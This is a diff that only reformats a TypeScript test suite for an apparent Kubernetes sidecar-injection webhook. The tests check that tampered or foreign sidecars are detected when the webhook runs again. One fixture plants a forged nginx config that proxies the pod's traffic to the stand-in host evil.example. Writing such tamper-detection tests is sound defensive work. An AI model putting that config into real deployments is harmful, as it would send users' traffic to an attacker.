@@ -10,7 +10,10 @@ import { buildCatalog, loadBuiltinTemplates, parseTemplates } from '../../src/ca
 import { storedByApiServer } from '../helpers/stored-pod.js';
 import { testCatalog } from '../helpers/catalog.js';
 
-type Pod = PodLike & { metadata: { annotations: Record<string, string> }; spec: { containers: V1Container[]; initContainers?: V1Container[]; volumes?: Array<{ name: string }> } };
+type Pod = PodLike & {
+  metadata: { annotations: Record<string, string> };
+  spec: { containers: V1Container[]; initContainers?: V1Container[]; volumes?: Array<{ name: string }> };
+};
 
 const builtin = buildCatalog([loadBuiltinTemplates()]);
 const STATUS = 'podpattern.dev/status';
@@ -18,7 +21,12 @@ const FILE = 'https-proxy.podpattern.dev/file.nginx.conf';
 const asked = { 'podpattern.dev/sidecar': 'https-proxy', 'https-proxy.podpattern.dev/tls-secret': 'web-tls' };
 
 function pod(annotations: Record<string, string>): Pod {
-  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web', annotations }, spec: { containers: [{ name: 'app', image: 'example.org/app:1' }] } };
+  return {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'web', annotations },
+    spec: { containers: [{ name: 'app', image: 'example.org/app:1' }] },
+  };
 }
 
 /** The pod as the API server stores it after podpattern's patch: what a reinvocation sees. */
@@ -72,7 +80,8 @@ for (const nativeSidecars of ['always', 'never'] as const) {
 
     // The file replaced, and the status no longer naming it (as if the pod had set it itself).
     const file = structuredClone(genuine);
-    file.metadata.annotations[FILE] = 'daemon off; events {} http { server { listen 8443; location / { proxy_pass http://evil.example; } } }\n';
+    file.metadata.annotations[FILE] =
+      'daemon off; events {} http { server { listen 8443; location / { proxy_pass http://evil.example; } } }\n';
     const status = JSON.parse(file.metadata.annotations[STATUS] as string) as { annotations: string[] };
     status.annotations = status.annotations.filter((k) => k !== FILE);
     file.metadata.annotations[STATUS] = JSON.stringify(status);
@@ -94,7 +103,10 @@ t.test('a native sidecar whose restartPolicy another webhook dropped is not ours
   delete proxyOf(dropped).restartPolicy;
   const after = reinjectsCorrectly(t, dropped, genuine, options, 'restartPolicy dropped');
   t.equal(after && proxyOf(after).restartPolicy, 'Always', 'a native sidecar again: the pod leaves Init');
-  t.ok(after?.spec.initContainers?.some((c) => c.name === 'https-proxy'), 'still an init container');
+  t.ok(
+    after?.spec.initContainers?.some((c) => c.name === 'https-proxy'),
+    'still an init container',
+  );
 });
 
 t.test('a classic sidecar moved among the init containers is not ours', async (t) => {
@@ -107,12 +119,17 @@ t.test('a classic sidecar moved among the init containers is not ours', async (t
   reinjectsCorrectly(t, moved, genuine, options, 'a classic sidecar as a run-once init container');
 });
 
-t.test('a registry mirror\'s rewrite of the registry host is kept; another repository, tag or digest is not', async (t) => {
+t.test("a registry mirror's rewrite of the registry host is kept; another repository, tag or digest is not", async (t) => {
   const options: InjectOptions = { nativeSidecars: 'always', namespace: 'shop' };
   const genuine = injected(asked, options);
   const original = proxyOf(genuine).image as string;
   t.equal(original, 'nginxinc/nginx-unprivileged:1.29.0-alpine', 'the built-in image, on Docker Hub');
-  const mirrored = ['mirror.corp.example:5000/nginxinc/nginx-unprivileged:1.29.0-alpine', 'registry.local/nginxinc/nginx-unprivileged:1.29.0-alpine', 'docker.io/nginxinc/nginx-unprivileged:1.29.0-alpine', 'localhost/nginxinc/nginx-unprivileged:1.29.0-alpine'];
+  const mirrored = [
+    'mirror.corp.example:5000/nginxinc/nginx-unprivileged:1.29.0-alpine',
+    'registry.local/nginxinc/nginx-unprivileged:1.29.0-alpine',
+    'docker.io/nginxinc/nginx-unprivileged:1.29.0-alpine',
+    'localhost/nginxinc/nginx-unprivileged:1.29.0-alpine',
+  ];
   for (const image of mirrored) {
     const pod = structuredClone(genuine);
     proxyOf(pod).image = image;
@@ -120,8 +137,19 @@ t.test('a registry mirror\'s rewrite of the registry host is kept; another repos
   }
   const pinned = structuredClone(genuine);
   proxyOf(pinned).image = `mirror.corp.example/nginxinc/nginx-unprivileged:1.29.0-alpine@sha256:${'a'.repeat(64)}`;
-  t.match(inject(pinned, builtin, options), { outcome: 'skipped', reason: 'already-injected' }, 'a digest added to a template image without one: kept');
-  const foreign = ['mirror.corp.example/nginxinc/nginx-unprivileged:1.28.0-alpine', 'mirror.corp.example/evil/nginx-unprivileged:1.29.0-alpine', 'mirror.corp.example/nginx-unprivileged:1.29.0-alpine', 'nginxinc/nginx-unprivileged', 'nginxinc/nginx-unprivileged:1.29.0-alpine-debug', 'mirror.corp.example/mirror/nginxinc/nginx-unprivileged:1.29.0-alpine'];
+  t.match(
+    inject(pinned, builtin, options),
+    { outcome: 'skipped', reason: 'already-injected' },
+    'a digest added to a template image without one: kept',
+  );
+  const foreign = [
+    'mirror.corp.example/nginxinc/nginx-unprivileged:1.28.0-alpine',
+    'mirror.corp.example/evil/nginx-unprivileged:1.29.0-alpine',
+    'mirror.corp.example/nginx-unprivileged:1.29.0-alpine',
+    'nginxinc/nginx-unprivileged',
+    'nginxinc/nginx-unprivileged:1.29.0-alpine-debug',
+    'mirror.corp.example/mirror/nginxinc/nginx-unprivileged:1.29.0-alpine',
+  ];
   for (const image of foreign) {
     const pod = structuredClone(genuine);
     proxyOf(pod).image = image;
@@ -131,14 +159,19 @@ t.test('a registry mirror\'s rewrite of the registry host is kept; another repos
 
   // A template pinned by digest: the digest must stay.
   const digest = `sha256:${'b'.repeat(64)}`;
-  const pinnedCatalog = buildCatalog([parseTemplates(`apiVersion: podpattern.dev/v1alpha1
+  const pinnedCatalog = buildCatalog([
+    parseTemplates(
+      `apiVersion: podpattern.dev/v1alpha1
 kind: PatternTemplate
 metadata: { name: pinned }
 spec:
   pattern: sidecar
   description: A sidecar pinned by digest.
   containers: [{ name: pinned, image: "ghcr.io/example/agent:2.1@${digest}", args: [run] }]
-`, 'cluster')]);
+`,
+      'cluster',
+    ),
+  ]);
   const ask = { 'podpattern.dev/sidecar': 'pinned' };
   const stored = injected(ask, options, pinnedCatalog);
   const image = (p: Pod, to: string): Pod => {
@@ -146,9 +179,21 @@ spec:
     (copy.spec.initContainers as V1Container[])[0]!.image = to;
     return copy;
   };
-  t.match(inject(image(stored, `mirror.example/example/agent:2.1@${digest}`), pinnedCatalog, options), { outcome: 'skipped', reason: 'already-injected' }, 'the same digest on a mirror: kept');
-  t.equal(inject(image(stored, `mirror.example/example/agent:2.1@sha256:${'c'.repeat(64)}`), pinnedCatalog, options).outcome, 'injected', 'another digest: not ours');
-  t.equal(inject(image(stored, 'mirror.example/example/agent:2.1'), pinnedCatalog, options).outcome, 'injected', 'the digest dropped: not ours');
+  t.match(
+    inject(image(stored, `mirror.example/example/agent:2.1@${digest}`), pinnedCatalog, options),
+    { outcome: 'skipped', reason: 'already-injected' },
+    'the same digest on a mirror: kept',
+  );
+  t.equal(
+    inject(image(stored, `mirror.example/example/agent:2.1@sha256:${'c'.repeat(64)}`), pinnedCatalog, options).outcome,
+    'injected',
+    'another digest: not ours',
+  );
+  t.equal(
+    inject(image(stored, 'mirror.example/example/agent:2.1'), pinnedCatalog, options).outcome,
+    'injected',
+    'the digest dropped: not ours',
+  );
 });
 
 t.test('a template dropped with its parameters takes its containers, volumes and files with it', async (t) => {
@@ -159,10 +204,18 @@ t.test('a template dropped with its parameters takes its containers, volumes and
   const alone = injected({ 'podpattern.dev/sidecar': 'demo-sidecar' }, options, catalog);
   const { after } = dropHttpsProxy(t, stored, catalog, options);
   if (after === undefined) return;
-  t.same(after.spec.containers.map((c) => c.name), ['app', 'demo-sidecar'], 'the dropped template\'s container is gone');
+  t.same(
+    after.spec.containers.map((c) => c.name),
+    ['app', 'demo-sidecar'],
+    "the dropped template's container is gone",
+  );
   t.same((after.spec.volumes ?? []).map((v) => v.name).sort(), (alone.spec.volumes ?? []).map((v) => v.name).sort(), 'and its volumes');
   t.notOk(FILE in after.metadata.annotations, 'and its file');
-  t.same(JSON.parse(after.metadata.annotations[STATUS] as string), JSON.parse(alone.metadata.annotations[STATUS] as string), 'the status is that of the template alone');
+  t.same(
+    JSON.parse(after.metadata.annotations[STATUS] as string),
+    JSON.parse(alone.metadata.annotations[STATUS] as string),
+    'the status is that of the template alone',
+  );
   t.match(inject(after, catalog, options), { outcome: 'skipped', reason: 'already-injected' });
 });
 
@@ -174,8 +227,15 @@ t.test('a dropped template whose objects cannot be proven ours: they stay, recor
   const catalog = buildCatalog([parseTemplates(readDemo(), 'cluster')]);
   const { result, after } = dropHttpsProxy(t, stored, catalog, options);
   if (after === undefined) return;
-  t.ok(after.spec.containers.some((c) => c.name === 'https-proxy'), 'the container podpattern cannot prove its own stays');
-  const status = JSON.parse(after.metadata.annotations[STATUS] as string) as { containers: string[]; volumes: string[]; annotations: string[] };
+  t.ok(
+    after.spec.containers.some((c) => c.name === 'https-proxy'),
+    'the container podpattern cannot prove its own stays',
+  );
+  const status = JSON.parse(after.metadata.annotations[STATUS] as string) as {
+    containers: string[];
+    volumes: string[];
+    annotations: string[];
+  };
   t.ok(status.containers.includes('https-proxy'), 'and stays recorded in the status');
   t.ok(status.volumes.includes('https-proxy-tls') && status.volumes.includes('https-proxy-files'), 'with its volumes');
   t.ok(status.annotations.includes(FILE), 'and its file');
@@ -184,7 +244,12 @@ t.test('a dropped template whose objects cannot be proven ours: they stay, recor
 });
 
 /** `stored` with https-proxy and its parameter dropped, injected again: the answer and the pod it gives. */
-function dropHttpsProxy(t: Test, stored: Pod, catalog: ReturnType<typeof testCatalog>, options: InjectOptions): { result: ReturnType<typeof inject>; after: Pod | undefined } {
+function dropHttpsProxy(
+  t: Test,
+  stored: Pod,
+  catalog: ReturnType<typeof testCatalog>,
+  options: InjectOptions,
+): { result: ReturnType<typeof inject>; after: Pod | undefined } {
   const dropped = structuredClone(stored);
   dropped.metadata.annotations['podpattern.dev/sidecar'] = 'demo-sidecar';
   delete dropped.metadata.annotations['https-proxy.podpattern.dev/tls-secret'];
@@ -196,5 +261,10 @@ function dropHttpsProxy(t: Test, stored: Pod, catalog: ReturnType<typeof testCat
 function readDemo(): string {
   const catalog = testCatalog();
   const demo = catalog.get('demo-sidecar')!;
-  return JSON.stringify({ apiVersion: 'podpattern.dev/v1alpha1', kind: 'PatternTemplate', metadata: { name: 'demo-sidecar' }, spec: demo.spec });
+  return JSON.stringify({
+    apiVersion: 'podpattern.dev/v1alpha1',
+    kind: 'PatternTemplate',
+    metadata: { name: 'demo-sidecar' },
+    spec: demo.spec,
+  });
 }
